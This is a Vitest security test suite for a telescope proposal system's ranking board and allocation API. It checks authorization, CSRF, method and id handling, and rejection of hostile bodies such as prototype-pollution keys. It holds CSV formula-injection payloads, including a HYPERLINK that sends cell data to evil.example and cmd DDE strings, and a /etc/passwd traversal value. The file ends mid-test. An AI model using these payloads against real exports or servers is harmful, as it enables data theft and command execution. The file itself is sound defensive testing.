// Attacks on the ranking board and the allocation (issue 12) through HTTP on the test MariaDB, as an
// outsider and as signed-in users of the wrong role: forged cookies, other calls' ids, cross-site
// and method-confused requests, hostile bodies, concurrent and replayed changes, the semester
// check's queue, formula and header injection in the downloads. Each API refusal is a 4xx JSON
// `{ error, issues: [{ path, message }] }` naming the field, never a 5xx; nothing entered is lost.
import ICAL from "ical.js";
import { beforeAll, describe, expect, it } from "vitest";
import { allocationVersion } from "~/lib/allocation/allocate.server";
import { computeFeasibilitySheet } from "~/lib/proposals/feasibility.server";
import { createObservation, instrumentOptions } from "~/lib/proposals/observations.server";
import { observationSchema } from "~/lib/schemas/proposals";
import { Allocation, BoardEntry, Call, Proposal, ReviewAssignment, SemesterCheck, Target, Telescope, TelescopeClearFraction, User } from "~/models/index.server";
import { form, request } from "../helpers/app";
import { ensureDatabase } from "../helpers/db";
import { newUser, sessionCookieFor } from "../helpers/session";
import { readyProposal, testCall } from "../integration/proposals-fixtures";

type Person = Awaited<ReturnType<typeof newUser>>;
type TestCall = Awaited<ReturnType<typeof testCall>>;
let chair: Person, reviewer: Person, pi: Person, admin: Person;
let graders: Person[];
let callA: TestCall, callB: TestCall;
let a: Proposal[], b: Proposal[];
let cell: { telescopeId: number; moonCategory: "dark" | "grey" | "bright" };

// Titles, a reason and an institution that a spreadsheet would run as formulas (common practice:
// OWASP's "CSV injection" page lists = + - @ and tab/CR as the leading characters to neutralise).
const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const FORMULA_INSTITUTION = "@SUM(1+1)*cmd|' /C calc'!A0";
const FORMULA_REASON = "+1+cmd|' /C calc'!A0";

const json = (cookie: string) => ({ Cookie: cookie, "Content-Type": "application/json" });

async function callWithProposals(n: number, prefix: string) {
  const call = await testCall();
  const out: Proposal[] = [];
  for (let i = 0; i < n; i++) {
    const owner = i === 0 ? pi : await newUser({ name: `${prefix} PI ${i}` });
    const { proposal } = await readyProposal({ user: owner.user, callId: call.id, title: `${prefix} programme ${i}` });
    await Proposal.update({ status: "in_review", code: `${String(i + 1).padStart(3, "0")}/${call.semesterCode.slice(2)}`, serial: i + 1, submittedAt: new Date() }, { where: { id: proposal.id } });
    out.push((await Proposal.findByPk(proposal.id))!);
  }
  return { call, proposals: out };
}

async function gradeAll(proposals: Proposal[], reviewers: Person[]) {
  for (const [r, rev] of reviewers.entries()) for (const [c, p] of proposals.entries()) {
    const overall = 8 - c - r / 2;
    await ReviewAssignment.create({ callId: p.callId as number, proposalId: p.id, reviewerId: rev.user.id, status: "submitted", overall, science: overall, feasibility: overall, legacy: overall, submittedAt: new Date() });
  }
}

beforeAll(async () => {
  await ensureDatabase();
  chair = await newUser({ roles: ["chair"], name: "Attack Chair" });
  reviewer = await newUser({ roles: ["reviewer"], name: "Attack Reviewer" });
  admin = await newUser({ roles: ["admin"], name: "Attack Office" });
  pi = await newUser({ name: "Attack PI" });
  await User.update({ institution: FORMULA_INSTITUTION }, { where: { id: pi.user.id } });
  const reviewers = await Promise.all([0, 1, 2].map((i) => newUser({ roles: ["reviewer"], name: `Attack Reviewer ${i}` })));
  graders = reviewers;
  ({ call: callA, proposals: a } = await callWithProposals(3, "Call A"));
  ({ call: callB, proposals: b } = await callWithProposals(2, "Call B"));
  await Proposal.update({ title: FORMULA_TITLE }, { where: { id: a[0].id } });
  await gradeAll(a, reviewers);
  await gradeAll(b, reviewers);
  const sheet = await computeFeasibilitySheet({ proposalId: a[0].id });
  const t = sheet.totals.find((x) => x.semesterCode === callA.semesterCode && x.hours > 0)!;
  cell = { telescopeId: t.telescopeId, moonCategory: t.moonCategory };
});

const row = (p: Proposal, call: TestCall, hours: unknown = 5) => ({ proposalId: p.id, ...cell, semesterCode: call.semesterCode, hours });

describe("who may reach the board and the allocation", () => {
  const apiGets = () => [`/api/v1/calls/${callA.id}/board`, `/api/v1/calls/${callA.id}/reproducibility`, `/api/v1/calls/${callA.id}/ra-pressure?telescopeId=${cell.telescopeId}`];
  const apiWrites = () => [
    ["POST", `/api/v1/calls/${callA.id}/board/rank`, { proposalId: a[1].id, chairRank: 1, reason: "forged" }],
    ["PUT", `/api/v1/calls/${callA.id}/allocation`, { rows: [row(a[1], callA)] }],
    ["POST", `/api/v1/calls/${callA.id}/allocation/fill-by-rank`, {}],
    ["POST", `/api/v1/calls/${callA.id}/allocation/lock`, {}],
    ["POST", `/api/v1/calls/${callA.id}/allocation/unlock`, { reason: "forged" }],
    ["POST", `/api/v1/calls/${callA.id}/semester-check`, { realisations: 1 }],
  ] as const;
  const pages = () => [`/committee/${callA.id}/board`, `/committee/${callA.id}/allocation`, `/committee/${callA.id}/ranked-list.csv`, `/committee/${callA.id}/allocation.csv`, `/committee/${callA.id}/proposals/${a[0].id}/epochs.ics`];

  it("refuses the anonymous, a forged or edited cookie, and every signed-in role but chair; nothing changes", async () => {
    const app = await request();
    const [name, value] = chair.cookie.split("=");
    const [payload, signature] = decodeURIComponent(value).split(/\.(?=[^.]+$)/);
    const edited = `${name}=${encodeURIComponent(`${payload}.${signature.slice(0, -2)}${signature.endsWith("AA") ? "BB" : "AA"}`)}`;
    const forged = `${name}=${encodeURIComponent(Buffer.from(JSON.stringify({ sid: "x".repeat(43) })).toString("base64"))}`;
    const outsiders: [string, string, number][] = [["anonymous", "", 401], ["edited cookie", edited, 401], ["forged cookie", forged, 401], ["reviewer", reviewer.cookie, 403], ["PI", pi.cookie, 403], ["admin", admin.cookie, 403]];
    for (const [who, cookie, status] of outsiders) {
      for (const path of apiGets()) {
        const res = await app.get(path).set("Cookie", cookie);
        expect.soft(res.status, `${who} GET ${path}`).toBe(status);
        expect.soft(res.headers["content-type"], `${who} GET ${path}`).toMatch(/application\/json/);
      }
      for (const [method, path, body] of apiWrites()) {
        const res = await (method === "PUT" ? app.put(path) : app.post(path)).set(json(cookie)).send(body);
        expect.soft(res.status, `${who} ${method} ${path}`).toBe(status);
        expect.soft(typeof res.body.error, `${who} ${method} ${path}`).toBe("string");
      }
      for (const path of pages()) {
        const res = await app.get(path).set("Cookie", cookie);
        expect.soft(res.status, `${who} GET ${path}`).toBe(status === 401 ? 302 : 403);
      }
      const posted = await app.post(`/committee/${callA.id}/board`).set("Cookie", cookie).type("form").send(form({ intent: "lock" }));
      expect.soft(posted.status, `${who} POST board lock`).toBe(status === 401 ? 302 : 403);
      const clear = await app.post(`/admin/telescopes/${cell.telescopeId}`).set("Cookie", cookie).type("form").send(form({ intent: "clearFractions", m1: "0" }));
      if (who !== "admin") expect.soft(clear.status, `${who} POST clearFractions`).toBe(status === 401 ? 302 : 403);
    }
    const chairOnly = await newUser({ roles: ["chair"], name: "Chair not office" });
    const clear = await app.post(`/admin/telescopes/${cell.telescopeId}`).set("Cookie", chairOnly.cookie).type("form").send(form({ intent: "clearFractions", m1: "0" }));
    expect(clear.status).toBe(403);
    expect(await Allocation.count({ where: { callId: callA.id } })).toBe(0);
    expect(await BoardEntry.count({ where: { callId: callA.id } })).toBe(0);
    expect(await SemesterCheck.count({ where: { callId: callA.id } })).toBe(0);
    expect((await Proposal.findByPk(a[1].id))!.status).toBe("in_review");
  });

  it("refuses cross-site writes (foreign Origin or Sec-Fetch-Site) and a non-JSON body on the API", async () => {
    const app = await request();
    const evil = "http://evil.example";
    const cases = [
      app.post(`/committee/${callA.id}/board`).set("Cookie", chair.cookie).set("Origin", evil).type("form").send(form({ intent: "lock" })),
      app.post(`/committee/${callA.id}/allocation`).set("Cookie", chair.cookie).set("Origin", evil).set("Content-Type", "text/plain").send(JSON.stringify({ intent: "save", rows: [] })),
      app.post(`/api/v1/calls/${callA.id}/allocation/lock`).set(json(chair.cookie)).set("Sec-Fetch-Site", "cross-site").send("{}"),
      app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).set("Origin", "null").send({ rows: [] }),
    ];
    for (const res of await Promise.all(cases)) expect.soft(res.status, res.text.slice(0, 200)).toBe(403);
    // a cross-site form can send text/plain without a preflight: the API wants JSON
    const plain = await app.post(`/api/v1/calls/${callA.id}/semester-check`).set("Cookie", chair.cookie).set("Content-Type", "text/plain").send("{}");
    expect(plain.status).toBe(400);
    expect(plain.body.issues[0].path).toBe("content-type");
    expect((await Proposal.findByPk(a[1].id))!.status).toBe("in_review");
    expect(await SemesterCheck.count({ where: { callId: callA.id } })).toBe(0);
  });

  it("answers the wrong method with 405 and an Allow header", async () => {
    const app = await request();
    const wrong: [string, string, string][] = [
      ["GET", `/api/v1/calls/${callA.id}/allocation/lock`, "POST"],
      ["PUT", `/api/v1/calls/${callA.id}/allocation/lock`, "POST"],
      ["DELETE", `/api/v1/calls/${callA.id}/allocation/unlock`, "POST"],
      ["GET", `/api/v1/calls/${callA.id}/allocation`, "PUT"],
      ["POST", `/api/v1/calls/${callA.id}/allocation`, "PUT"],
      ["PATCH", `/api/v1/calls/${callA.id}/board/rank`, "POST"],
      ["POST", `/api/v1/calls/${callA.id}/board`, "GET"],
      ["POST", `/api/v1/calls/${callA.id}/ra-pressure`, "GET"],
      ["POST", `/api/v1/calls/${callA.id}/reproducibility`, "GET"],
      ["GET", `/api/v1/calls/${callA.id}/semester-check`, "POST"],
      ["DELETE", `/api/v1/semester-checks/1`, "GET"],
    ];
    for (const [method, path, allow] of wrong) {
      const res = await app[method.toLowerCase() as "get"](path).set(json(chair.cookie)).send(method === "GET" ? undefined : "{}");
      expect.soft(res.status, `${method} ${path}`).toBe(405);
      expect.soft(res.headers.allow, `${method} ${path}`).toBe(allow);
    }
  });
});

describe("the committee's and reviewers' other form pages", () => {
  it("answer a body that is no form with a 400, not a 500 (the board's action had the same fault)", async () => {
    const app = await request();
    // a seeded reviewer's desk page (the demo review seeder commits the assignments)
    const desk = await (async () => {
      for (const as of await ReviewAssignment.findAll({ where: { status: ["assigned", "draft", "submitted"] }, order: [["id", "ASC"]], limit: 40 })) {
        const user = await User.findByPk(as.reviewerId as number);
        if (!user?.email.endsWith("@kestrel-ridge.example")) continue;
        const cookie = await sessionCookieFor(user.email);
        if ((await app.get(`/review/${as.proposalId}`).set("Cookie", cookie)).status === 200) return [`/review/${as.proposalId}`, cookie] as [string, string];
      }
      throw new Error("no seeded reviewer's desk page answers 200");
    })();
    const pages: [string, string][] = [[`/committee/${callA.id}`, chair.cookie], ["/review/settings", graders[0].cookie], desk];
    for (const [path, cookie] of pages) {
      for (const [type, body] of [["application/json", '{"intent":"save"}'], ["text/plain", "intent=save"]]) {
        const res = await app.post(path).set("Cookie", cookie).set("Content-Type", type).send(body);
        expect.soft(res.status, `${path} ${type}: ${res.status}`).toBe(400);
      }
    }
  });
});

describe("another call's ids", () => {
  it("does not reach a proposal of call A through call B's URLs, and names the field", async () => {
    const app = await request();
    const rank = await app.post(`/api/v1/calls/${callB.id}/board/rank`).set(json(chair.cookie)).send({ proposalId: a[1].id, chairRank: 1, reason: "across calls" });
    expect(rank.status).toBe(400);
    expect(rank.body.issues[0].path).toBe("proposalId");
    const put = await app.put(`/api/v1/calls/${callB.id}/allocation`).set(json(chair.cookie)).send({ rows: [row(b[0], callB), row(a[1], callB)] });
    expect(put.status).toBe(400);
    expect(put.body.issues[0].path).toBe("rows.1.proposalId");
    // a tier for call A's proposal, after a good row of call B's own
    const tiers = await app.put(`/api/v1/calls/${callB.id}/allocation`).set(json(chair.cookie)).send({ rows: [row(b[0], callB)], tiers: [{ proposalId: b[0].id, tier: "queue" }, { proposalId: a[1].id, tier: "assured" }] });
    expect(tiers.status).toBe(400);
    expect(tiers.body.issues[0].path).toBe("tiers.1.proposalId");
    const page = await app.post(`/committee/${callB.id}/allocation`).set(json(chair.cookie)).send({ intent: "save", rows: [{ proposalId: a[1].id, tier: "queue", waitlisted: false, cells: [{ ...cell, semesterCode: callB.semesterCode, hours: 3 }] }] });
    expect(page.status).toBe(400);
    const move = await app.post(`/committee/${callB.id}/board`).set("Cookie", chair.cookie).type("form").send(form({ intent: "move", proposalId: a[1].id, chairRank: "1", reason: "across calls" }));
    expect(move.status).toBe(400);
    const ics = await app.get(`/committee/${callB.id}/proposals/${a[0].id}/epochs.ics`).set("Cookie", chair.cookie);
    expect(ics.status).toBe(404);
    expect(await Allocation.count({ where: { proposalId: a[1].id } })).toBe(0);
    expect(await BoardEntry.count({ where: { proposalId: a[1].id } })).toBe(0);
  });

  it("answers malformed and unknown ids in the path and the query with 400 or 404, never a 5xx", async () => {
    const app = await request();
    for (const id of ["0", "-1", "1.5", "1e3", "abc", "9".repeat(40), "..%2F..%2Fetc%2Fpasswd", "%00", "4294967296"]) {
      for (const path of [`/api/v1/calls/${id}/board`, `/api/v1/calls/${id}/reproducibility`, `/api/v1/semester-checks/${id}`, `/api/v1/calls/${callA.id}/ra-pressure?telescopeId=${id}`]) {
        const res = await app.get(path).set("Cookie", chair.cookie);
        expect.soft([400, 404], `GET ${path}: ${res.status} ${res.text.slice(0, 120)}`).toContain(res.status);
        expect.soft(res.headers["content-type"], path).toMatch(/application\/json/);
        if (res.status === 400) expect.soft(res.body.issues?.[0]?.path, path).toMatch(/callId|id|telescopeId/);
      }
      for (const path of [`/committee/${id}/board`, `/committee/${id}/allocation`, `/committee/${id}/ranked-list.csv`, `/committee/${callA.id}/proposals/${id}/epochs.ics`]) {
        const res = await app.get(path).set("Cookie", chair.cookie);
        expect.soft([400, 404], `GET ${path}: ${res.status}`).toContain(res.status);
      }
      const check = await app.post(`/api/v1/calls/${id}/semester-check`).set(json(chair.cookie)).send({ realisations: 1 });
      expect.soft([400, 404], `POST semester-check ${id}: ${check.status}`).toContain(check.status);
    }
    const twice = await app.get(`/api/v1/calls/${callA.id}/ra-pressure?telescopeId=${cell.telescopeId}&telescopeId=${cell.telescopeId}`).set("Cookie", chair.cookie);
    expect(twice.status).toBe(400);
    expect(twice.body.issues[0].path).toBe("telescopeId");
    const none = await app.get(`/api/v1/calls/${callA.id}/ra-pressure`).set("Cookie", chair.cookie);
    expect(none.status).toBe(400);
    expect(none.body.issues[0].path).toBe("telescopeId");
    const unknownCall = await app.post(`/api/v1/calls/999999999/semester-check`).set(json(chair.cookie)).send({});
    expect(unknownCall.status).toBe(404);
    expect(typeof unknownCall.body.error).toBe("string");
  });
});

describe("hostile bodies", () => {
  const bad: { label: string; body: string; field: RegExp }[] = [
    { label: "hours as a string", body: "", field: /^rows\.0\.hours$/ },
    { label: "hours NaN", body: "", field: /^\(body\)$/ },
    { label: "hours 1e309 (Infinity)", body: "", field: /^rows\.0\.hours$/ },
    { label: "hours 1e308", body: "", field: /^rows\.0\.hours$/ },
    { label: "hours negative", body: "", field: /^rows\.0\.hours$/ },
    { label: "hours null", body: "", field: /^rows\.0\.hours$/ },
    { label: "telescopeId a fraction", body: "", field: /^rows\.0\.telescopeId$/ },
    { label: "proposalId in exponent form beyond 2³²", body: "", field: /^rows\.0\.proposalId$/ },
    { label: "moon category unknown", body: "", field: /^rows\.0\.moonCategory$/ },
    { label: "rows an object", body: "", field: /^rows$/ },
    { label: "a row an array", body: "", field: /^rows\.0$/ },
    { label: "body an array", body: "", field: /^\(body\)$|^$|^rows$/ },
    { label: "body null", body: "", field: /^\(body\)$|^$|^rows$/ },
    { label: "tier unknown", body: "", field: /^tiers\.0\.tier$/ },
    { label: "deep JSON", body: "", field: /^rows/ },
  ];
  function bodyOf(label: string): string {
    const good = JSON.stringify(row(a[1], callA));
    const r = (over: string) => `{"rows":[${good.replace(/"hours":5/, over)}]}`;
    switch (label) {
      case "hours as a string": return r('"hours":"5"');
      case "hours NaN": return r('"hours":NaN');
      case "hours 1e309 (Infinity)": return r('"hours":1e309');
      case "hours 1e308": return r('"hours":1e308');
      case "hours negative": return r('"hours":-0.5');
      case "hours null": return r('"hours":null');
      case "telescopeId a fraction": return `{"rows":[${good.replace(/"telescopeId":\d+/, '"telescopeId":1.5')}]}`;
      case "proposalId in exponent form beyond 2³²": return `{"rows":[${good.replace(/"proposalId":\d+/, '"proposalId":1e10')}]}`;
      case "moon category unknown": return `{"rows":[${good.replace(/"moonCategory":"\w+"/, '"moonCategory":"__proto__"')}]}`;
      case "rows an object": return `{"rows":${good}}`;
      case "a row an array": return `{"rows":[[${good}]]}`;
      case "body an array": return `[${good}]`;
      case "body null": return "null";
      case "tier unknown": return `{"rows":[],"tiers":[{"proposalId":${a[1].id},"tier":"constructor"}]}`;
      case "deep JSON": return `{"rows":[${"[".repeat(100_000)}${"]".repeat(100_000)}]}`;
      default: throw new Error(label);
    }
  }

  it("PUT allocation: 400 naming the field for every hostile value; nothing is stored", async () => {
    const app = await request();
    for (const c of bad) {
      const res = await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).send(bodyOf(c.label));
      expect.soft(res.status, `${c.label}: ${res.text.slice(0, 200)}`).toBe(400);
      expect.soft(res.headers["content-type"], c.label).toMatch(/application\/json/);
      expect.soft(res.body.issues?.map((i: { path: string }) => i.path).join(" "), c.label).toMatch(c.field);
    }
    expect(await Allocation.count({ where: { callId: callA.id } })).toBe(0);
  });

  it("PUT allocation: hours need a tier and rule out the waitlist, as on the page (400 by the row's hours)", async () => {
    const app = await request();
    const untiered = await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).send({ rows: [row(a[1], callA, 5)] });
    expect(untiered.status).toBe(400);
    expect(untiered.body.issues[0].path).toBe("rows.0.hours");
    const waitlisted = await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).send({ rows: [row(a[1], callA, 5)], tiers: [{ proposalId: a[1].id, tier: "queue", waitlisted: true }] });
    expect(waitlisted.status).toBe(400);
    expect(waitlisted.body.issues[0].path).toBe("rows.0.hours");
    expect(await Allocation.count({ where: { callId: callA.id } })).toBe(0);
    // a tier stored before still counts when only the hours are sent
    expect((await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).send({ rows: [], tiers: [{ proposalId: a[1].id, tier: "filler" }] })).status).toBe(200);
    expect((await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).send({ rows: [row(a[1], callA, 2)] })).status).toBe(200);
    expect(await Allocation.sum("hours", { where: { callId: callA.id } })).toBe(2);
    await Allocation.destroy({ where: { callId: callA.id } });
    await BoardEntry.destroy({ where: { callId: callA.id } });
  });

  it("fill by rank takes a proposal it gives hours off the waitlist (never both)", async () => {
    const { call, proposals } = await callWithProposals(1, "Waitlist fill");
    const app = await request();
    expect((await app.put(`/api/v1/calls/${call.id}/allocation`).set(json(chair.cookie)).send({ rows: [], tiers: [{ proposalId: proposals[0].id, tier: null, waitlisted: true }] })).status).toBe(200);
    // the chair's own waitlisting is kept by a plain fill: still waitlisted, still no hours
    const plain = await app.post(`/api/v1/calls/${call.id}/allocation/fill-by-rank`).set(json(chair.cookie)).send("{}");
    expect(plain.status, plain.text.slice(0, 200)).toBe(200);
    expect(plain.body.kept).toEqual([proposals[0].id]);
    expect((await BoardEntry.findOne({ where: { proposalId: proposals[0].id } }))!.waitlisted).toBe(true);
    expect(await Allocation.sum("hours", { where: { proposalId: proposals[0].id } })).toBeFalsy();
    const filled = await app.post(`/api/v1/calls/${call.id}/allocation/fill-by-rank`).set(json(chair.cookie)).send({ replaceHandSet: true });
    expect(filled.status, filled.text.slice(0, 200)).toBe(200);
    const entry = (await BoardEntry.findOne({ where: { proposalId: proposals[0].id } }))!;
    expect(entry.tier).toBe("assured");
    expect(entry.waitlisted).toBe(false);
    expect(await Allocation.sum("hours", { where: { proposalId: proposals[0].id } })).toBeGreaterThan(0);
  });

  it("PUT allocation: prototype keys and duplicate keys do nothing odd; 20 000 rows are a 4xx, not a 5xx", async () => {
    const app = await request();
    await BoardEntry.create({ callId: callA.id, proposalId: a[1].id, chairRank: null, chairRankReason: null, tier: "queue" });
    // __proto__ as a key of the body and of a row: JSON.parse keeps it as a plain key; it must not add fields
    const proto = await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie))
      .send(`{"__proto__":{"tiers":[{"proposalId":${a[1].id},"tier":"assured"}]},"rows":[${JSON.stringify({ ...row(a[1], callA), __proto__: { hours: 900 } }).replace("}", `,"__proto__":{"hours":900}}`)}],"constructor":{"prototype":{"polluted":1}}}`);
    // keys the body does not take: a 400 naming each (they were silently dropped before), nothing saved
    expect(proto.status, proto.text.slice(0, 200)).toBe(400);
    expect(proto.body.issues.map((i: { path: string }) => i.path).sort()).toEqual(["__proto__", "constructor", "rows.0.__proto__"]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const saved = await Allocation.findAll({ where: { callId: callA.id } });
    expect(saved.map((s) => s.hours)).toEqual([]);
    expect((await BoardEntry.findOne({ where: { proposalId: a[1].id } }))!.tier).toBe("queue"); // the __proto__ tiers did nothing
    // duplicate keys: JSON's last one wins (RFC 8259 leaves it open; JSON.parse takes the last)
    const dup = await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).send(`{"rows":[${JSON.stringify(row(a[1], callA, 7)).replace('"hours":7', '"hours":-1,"hours":7')}]}`);
    expect(dup.status).toBe(200);
    expect((await Allocation.findAll({ where: { callId: callA.id } })).map((s) => s.hours)).toEqual([7]);
    // one proposal's tier many times over: refused at once (each would be two queries under the call's lock)
    const tiers = await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).send({ rows: [], tiers: Array.from({ length: 5000 }, (_, i) => ({ proposalId: a[1].id, tier: i % 2 ? "queue" : "filler" })) });
    expect(tiers.status).toBe(400);
    expect(tiers.body.issues[0].path).toBe("tiers.1.proposalId");
    expect((await BoardEntry.findOne({ where: { proposalId: a[1].id } }))!.tier).toBe("queue");
    const same = await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).send({ rows: [row(a[1], callA, 2), row(a[1], callA, 3)] });
    expect(same.status).toBe(400);
    expect(same.body.issues[0].path).toBe("rows.1");
    const many = await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).send({ rows: Array.from({ length: 20_000 }, () => row(a[1], callA, 1)) });
    expect([400, 413]).toContain(many.status);
    expect(many.headers["content-type"]).toMatch(/application\/json/);
    expect((await Allocation.findAll({ where: { callId: callA.id } })).map((s) => s.hours)).toEqual([7]);
    await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).send({ rows: [], tiers: [{ proposalId: a[1].id, tier: null }] });
    await Allocation.destroy({ where: { callId: callA.id } });
    await BoardEntry.destroy({ where: { callId: callA.id } });
  });

  it("the other JSON routes: 400 naming the field, never a 5xx", async () => {
    const app = await request();
    const cases: [string, string, string, RegExp][] = [
      [`/api/v1/calls/${callA.id}/board/rank`, `{"proposalId":${a[1].id},"chairRank":1e309,"reason":"why not"}`, "chairRank Infinity", /chairRank/],
      [`/api/v1/calls/${callA.id}/board/rank`, `{"proposalId":${a[1].id},"chairRank":"1","reason":"why not"}`, "chairRank a string", /chairRank/],
      [`/api/v1/calls/${callA.id}/board/rank`, `{"proposalId":${a[1].id},"chairRank":-3,"reason":"why not"}`, "chairRank negative", /chairRank/],
      [`/api/v1/calls/${callA.id}/board/rank`, `{"proposalId":${a[1].id},"chairRank":1,"reason":["a","b","c"]}`, "reason an array", /reason/],
      [`/api/v1/calls/${callA.id}/board/rank`, `{"proposalId":${a[1].id},"chairRank":1,"reason":"${"x".repeat(600)}"}`, "reason too long", /reason/],
      [`/api/v1/calls/${callA.id}/board/rank`, `{"proposalId":"../${a[1].id}","chairRank":1,"reason":"why not"}`, "proposalId traversal", /proposalId/],
      [`/api/v1/calls/${callA.id}/allocation/unlock`, `{"reason":{"toString":"x"}}`, "reason an object", /reason/],
      [`/api/v1/calls/${callA.id}/semester-check`, `{"realisations":1e309}`, "realisations Infinity", /realisations/],
      [`/api/v1/calls/${callA.id}/semester-check`, `{"realisations":100000}`, "realisations huge", /realisations/],
      [`/api/v1/calls/${callA.id}/semester-check`, `{"realisations":1,"seed":-1}`, "seed negative", /seed/],
      // an unknown key of the strict body: the issue names it, in its path and its message
      [`/api/v1/calls/${callA.id}/semester-check`, `{"realisations":1,"__proto__":{"realisations":100000}}`, "prototype key", /^__proto__$/],
      [`/api/v1/calls/${callA.id}/semester-check`, `[1]`, "body an array", /./],
    ];
    for (const [path, body, label, field] of cases) {
      const res = await app.post(path).set(json(chair.cookie)).send(body);
      expect.soft(res.status, `${label}: ${res.text.slice(0, 200)}`).toBe(400);
      if (label === "prototype key") expect.soft(res.body.issues?.[0]?.message).toContain("__proto__");
      expect.soft(res.body.issues?.map((i: { path: string }) => i.path).join(" "), label).toMatch(field);
    }
    expect(await BoardEntry.count({ where: { callId: callA.id } })).toBe(0);
    expect(await SemesterCheck.count({ where: { callId: callA.id } })).toBe(0);
  });

  it("the board page's form: odd fields are a 400 naming the field, never a 5xx", async () => {
    const app = await request();
    const post = (body: string) => app.post(`/committee/${callA.id}/board`).set("Cookie", chair.cookie).type("form").send(body);
    const cases: [string, string][] = [
      [`intent=move&proposalId=${a[1].id}&chairRank=Infinity&reason=because`, "chairRank"],
      [`intent=move&proposalId=${a[1].id}&chairRank=1e309&reason=because`, "chairRank"],
      [`intent=move&proposalId=${a[1].id}&chairRank=1&chairRank=2&reason=because`, "chairRank"],
      [`intent=move&proposalId=${a[1].id}&chairRank=1&reason=because&reason=twice`, "reason"],
      [`intent=move&proposalId=${a[1].id}/../1&chairRank=1&reason=because`, "proposalId"],
      [`intent=unlock&reason=`, "reason"],
      [`intent=__proto__`, "form"],
    ];
    for (const [body, field] of cases) {
      const res = await post(body);
      expect.soft(res.status, `${body}: ${res.status}`).toBeGreaterThanOrEqual(400);
      expect.soft(res.status, `${body}: ${res.status}`).toBeLessThan(500);
    }
    expect(await BoardEntry.count({ where: { callId: callA.id } })).toBe(0);
    // a body that is no form: JSON, text/plain, a broken multipart
    const notForms: [string, string][] = [
      ["application/json", JSON.stringify({ intent: "lock" })],
      ["text/plain", "intent=lock"],
      ["multipart/form-data; boundary=----nightshare", '------nightshare\r\nContent-Disposition: form-data; name="intent"\r\n\r\nlock\r\n------nightsh'],
    ];
    for (const [type, body] of notForms) {
      const res = await app.post(`/committee/${callA.id}/board`).set("Cookie", chair.cookie).set("Content-Type", type).send(body);
      expect.soft(res.status, `${type}: ${res.status}`).toBe(400);
    }
    expect((await Proposal.findByPk(a[1].id))!.status).toBe("in_review");
    // `__proto__` twice makes the parsed form's prototype an array; the fields of its own still rule
    const proto = await post(`__proto__=a&__proto__=b&intent=move&proposalId=${a[1].id}&chairRank=2&reason=because`);
    expect(proto.status).toBe(200);
    expect((await BoardEntry.findOne({ where: { proposalId: a[1].id } }))!.chairRank).toBe(2);
    expect(({} as { length?: number }).length).toBeUndefined();
    await BoardEntry.destroy({ where: { callId: callA.id } });
  });

  it("the allocation page: a non-JSON, deep or malformed body is a 400, never a 5xx; nothing is stored", async () => {
    const app = await request();
    const bodies = ["{not json", "null", "[]", `{"intent":"save","rows":{"0":{}}}`, `{"intent":"save","rows":[${"[".repeat(50_000)}${"]".repeat(50_000)}]}`,
      `{"intent":"save","rows":[{"proposalId":${a[1].id},"tier":"queue","waitlisted":"yes","cells":[]}]}`,
      `{"intent":"save","rows":[{"proposalId":${a[1].id},"tier":"queue","cells":[{"telescopeId":${cell.telescopeId},"moonCategory":"dark","semesterCode":"${callA.semesterCode}","hours":"Infinity"}]}]}`];
    for (const body of bodies) {
      const res = await app.post(`/committee/${callA.id}/allocation`).set(json(chair.cookie)).send(body);
      expect.soft(res.status, `${body.slice(0, 80)}: ${res.status}`).toBe(400);
    }
    const asForm = await app.post(`/committee/${callA.id}/allocation`).set("Cookie", chair.cookie).type("form").send("intent=save");
    expect(asForm.status).toBe(400);
    expect(await Allocation.count({ where: { callId: callA.id } })).toBe(0);
  });

  it("the office's clear fractions: refuses what it cannot keep as typed (m1…m12), never a 5xx", async () => {
    const app = await request();
    const telescope = await Telescope.create({ name: `Attack weather ${Date.now()}`, siteName: "Nowhere", latitudeDeg: 10, longitudeDeg: 10, elevationM: 100, timeZone: "UTC", apertureM: 0.5 });
    const all = Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`m${i + 1}`, ""]));
    const post = (values: Record<string, string>, base: Record<string, string> = all) => app.post(`/admin/telescopes/${telescope.id}`).set("Cookie", admin.cookie).type("form").send(form({ intent: "clearFractions", ...base, ...values }));
    for (const v of ["NaN", "Infinity", "1e2", "-0.5", "100.5", "0x40", "5 0", "５０"]) {
      const res = await post({ m1: v });
      expect.soft(res.status, `m1=${v}`).toBe(400);
    }
    // 0.04 % would be stored as 0 (rounded to a tenth): refused by its month rather than changed
    const fine = await post({ m1: "0.04", m2: "62.55" });
    expect(fine.status).toBe(400);
    expect(fine.text).toContain("January");
    expect(fine.text).toContain('value="0.04"');
    expect(await TelescopeClearFraction.count({ where: { telescopeId: telescope.id } })).toBe(0);
    const ok = await post(Object.fromEntries(["62.5", "0", "100", "62.50"].map((v, i) => [`m${i + 1}`, v]))); // January to April
    expect(ok.status).toBe(302);
    const rows = await TelescopeClearFraction.findAll({ where: { telescopeId: telescope.id }, order: [["month", "ASC"]] });
    expect(rows.map((r) => r.clearFraction)).toEqual([0.625, 0, 1, 0.625]);
    // a body without the other eleven months (a script, a form library's nested names) deletes nothing
    for (const body of ["intent=clearFractions&m1=50", "intent=clearFractions&m1[a][b]=1", "intent=clearFractions"]) {
      const res = await app.post(`/admin/telescopes/${telescope.id}`).set("Cookie", admin.cookie).type("form").send(body);
      expect.soft(res.status, body).toBe(400);
    }
    expect(await TelescopeClearFraction.count({ where: { telescopeId: telescope.id } })).toBe(4);
    const twice = await app.post(`/admin/telescopes/${telescope.id}`).set("Cookie", admin.cookie).type("form").send(`${form({ intent: "clearFractions", ...all, m1: "10" })}&m1=20`);
    expect([302, 400]).toContain(twice.status);
